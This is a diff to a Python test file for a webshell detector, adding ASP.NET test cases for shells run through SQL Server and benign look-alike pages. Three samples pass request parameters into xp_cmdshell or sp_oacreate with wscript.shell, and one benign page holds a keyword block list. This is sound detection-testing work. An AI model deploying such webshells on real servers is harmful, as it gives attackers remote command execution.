@@ -288,7 +288,7 @@ def test_benign_look_alike(name: str, code: str) -> None:
 
 # A later round: page markup parsed at run time, assemblies created from a file, and the arguments
 # the page framework itself hands over from the client (docs/detection/webshell-code.md, "Markup,
-# assembly files, framework callbacks, WCF services").
+# assembly files, framework callbacks, WCF services, SQL Server, sockets").
 SHELLS_LATER = [
     (
         "markup.aspx",
@@ -417,6 +417,42 @@ public class Store {
         "EXH-WS-CODE-TUNNEL",
         ["form field 'dns'"],
     ),
+    (
+        "xp.aspx",
+        page(
+            'var cn = new System.Data.SqlClient.SqlConnection("server=.;uid=sa;pwd=Passw0rd;database=master");\n'
+            "cn.Open();\n"
+            'var cmd = new System.Data.SqlClient.SqlCommand("exec master..xp_cmdshell \'" + '
+            'Request.Form["c"].Replace("\'", "\'\'") + "\'", cn);\n'
+            "var r = cmd.ExecuteReader();"
+        ),
+        "EXH-WS-CODE-SQL-SHELL",
+        ["form field 'c'", "through SQL Server"],
+    ),
+    (
+        "xp-text.aspx",
+        vb_page(
+            'Dim cn As New System.Data.SqlClient.SqlConnection(ConfigurationManager.ConnectionStrings("db").ConnectionString)\n'
+            "cn.Open()\n"
+            "Dim cmd As New System.Data.SqlClient.SqlCommand()\n"
+            "cmd.Connection = cn\n"
+            'cmd.CommandText = "EXEC xp_cmdshell \'" & Request("c") & "\'"\n'
+            "cmd.ExecuteNonQuery()"
+        ),
+        "EXH-WS-CODE-SQL-SHELL",
+        ["request parameter 'c'"],
+    ),
+    (
+        "oa.aspx",
+        page(
+            'var cn = new System.Data.SqlClient.SqlConnection("server=10.0.0.5;uid=sa;pwd=x");\n'
+            "cn.Open();\n"
+            "new System.Data.SqlClient.SqlCommand(string.Format(\"declare @o int; exec sp_oacreate 'wscript.shell', @o out; "
+            "exec sp_oamethod @o, 'run', null, '{0}'\", Request.Form[\"c\"]), cn).ExecuteNonQuery();"
+        ),
+        "EXH-WS-CODE-SQL-SHELL",
+        ["form field 'c'"],
+    ),
 ]
 
 
@@ -506,6 +542,40 @@ BENIGN_LATER += [
             '    byte[] line = System.Text.Encoding.UTF8.GetBytes("<134>web: " + Request.RawUrl);\n'
             "    u.Send(line, line.Length);\n"
             "}"
+        ),
+    ),
+]
+
+
+BENIGN_LATER += [
+    (
+        "product-search.aspx",
+        page(
+            'string q = Request.QueryString["q"] ?? "";\n'
+            'foreach (var word in new[] { "xp_cmdshell", "sp_oacreate", "drop table" }) if (q.ToLower().Contains(word)) Response.End();\n'
+            'var cn = new System.Data.SqlClient.SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString);\n'
+            'var da = new System.Data.SqlClient.SqlDataAdapter("select * from Products where Name like \'%" + q.Replace("\'", "\'\'") + "%\'", cn);\n'
+            "da.Fill(new System.Data.DataTable());"
+        ),
+    ),
+    (
+        "backup-jobs.aspx",
+        page(
+            'var cn = new System.Data.SqlClient.SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString);\n'
+            "cn.Open();\n"
+            "new System.Data.SqlClient.SqlCommand(\"exec master..xp_cmdshell 'dir D:\\\\Backup'\", cn).ExecuteNonQuery();\n"
+            'var da = new System.Data.SqlClient.SqlDataAdapter("select * from Jobs where Name = \'" + Request.QueryString["job"].Replace("\'", "\'\'") + "\'", cn);\n'
+            "da.Fill(new System.Data.DataTable());"
+        ),
+    ),
+    (
+        "order-export.aspx",
+        page(
+            'var cn = new System.Data.SqlClient.SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString);\n'
+            'var cmd = new System.Data.SqlClient.SqlCommand("select * from Orders where Id = " + int.Parse(Request.QueryString["id"]), cn);\n'
+            "cn.Open();\n"
+            'System.IO.File.WriteAllText(Server.MapPath("~/App_Data/export/last.txt"), Request.QueryString["id"]);\n'
+            'System.IO.File.Delete(Server.MapPath("~/App_Data/export/old.txt"));'
         ),
     ),
 ]
